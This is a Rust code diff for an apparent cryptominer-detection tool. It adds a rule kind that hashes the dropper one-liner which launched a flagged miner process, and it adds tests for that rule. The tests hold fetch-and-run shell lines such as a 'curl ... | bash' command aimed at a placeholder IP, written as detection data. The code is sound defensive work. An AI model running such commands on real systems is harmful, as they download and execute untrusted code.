@@ -98,7 +98,15 @@ impl Refusal {
 }
 
 /// The kinds of indicator, as rule kinds.
-pub const KINDS: [&str; 6] = ["binary_hash", "config_hash", "wallet", "pool_domain", "pool_address", "cmdline"];
+pub const KINDS: [&str; 7] = [
+    "binary_hash",
+    "config_hash",
+    "oneliner_hash",
+    "wallet",
+    "pool_domain",
+    "pool_address",
+    "cmdline",
+];
 
 /// An indicator derived from evidence (not yet stored).
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -319,6 +327,14 @@ pub fn derive(f: &Finding) -> (Vec<Derived>, Vec<Refusal>) {
             }
         }
     }
+    // the dropper one-liner that started it (the agent sends its text; the
+    // hash is computed here, and only a one-liner that fetched or decoded
+    // something and ran it is taught, never an ordinary `sh -c`)
+    if let Some(ol) = f.process.parent_oneliner.as_deref() {
+        if ol.len() <= rigwatch_signatures::oneliner::MAX_BYTES && rigwatch_signatures::oneliner::looks_like_dropper(ol) {
+            add("oneliner_hash", rigwatch_signatures::oneliner::sha256_hex(ol), "");
+        }
+    }
     // the executable's hash the agent read (ProcessInfo.sha256): the binary
     // that runs renamed on the next host
     if let Some(h) = f.process.sha256.as_deref().map(str::trim).filter(|h| is_sha256(h)) {
@@ -397,7 +413,7 @@ fn bundled() -> &'static rigwatch_signatures::Signatures {
 fn already_known(d: &Derived) -> bool {
     let s = bundled();
     match d.kind {
-        "binary_hash" | "config_hash" => {
+        "binary_hash" | "config_hash" | "oneliner_hash" => {
             let mut h = [0u8; 32];
             hex::decode_to_slice(&d.value, &mut h).is_ok() && s.binary_hash(&h).is_some()
         }
@@ -800,8 +816,9 @@ pub fn indicators_toml(list: &[Indicator]) -> String {
                     r.severity = "confirmed";
                     r.sha256 = Some(vec![&i.value]);
                 }
-                // the agent's config sensor matches config files against hash rules
-                "config_hash" => {
+                // the agent's config sensor matches config files against hash
+                // rules, its detector ancestors' one-liners
+                "config_hash" | "oneliner_hash" => {
                     r.kind = "binary_hash";
                     r.severity = "likely";
                     r.sha256 = Some(vec![&i.value]);
@@ -1148,6 +1165,26 @@ mod tests {
             let f = finding(vec![c, stratum("x", "185.199.108.7:14444")], Severity::Confirmed);
             assert!(derive(&f).0.iter().all(|d| d.kind != "config_hash"));
         }
+    }
+
+    #[test]
+    fn a_dropper_one_liner_is_taught_by_its_hash_and_an_ordinary_shell_is_not() {
+        let dropper = "curl -fsSL http://203.0.113.9/i.sh | bash";
+        let mut f = finding(vec![stratum("x", "185.199.108.7:14444")], Severity::Confirmed);
+        f.process.parent_oneliner = Some(dropper.into());
+        let (d, _) = derive(&f);
+        let sha = rigwatch_signatures::oneliner::sha256_hex(dropper);
+        assert!(d.iter().any(|d| d.kind == "oneliner_hash" && d.value == sha), "{d:?}");
+        // what a hostile agent claims is checked here: an ordinary shell
+        // line, or one past the cap, teaches nothing
+        for claimed in ["exec ./start.sh".to_string(), format!("curl http://x/{} | sh", "a".repeat(2000))] {
+            f.process.parent_oneliner = Some(claimed);
+            assert!(derive(&f).0.iter().all(|d| d.kind != "oneliner_hash"));
+        }
+        // not confirmed: nothing
+        let mut weak = finding(vec![], Severity::Confirmed);
+        weak.process.parent_oneliner = Some(dropper.into());
+        assert!(derive(&weak).0.is_empty());
     }
 
     #[test]
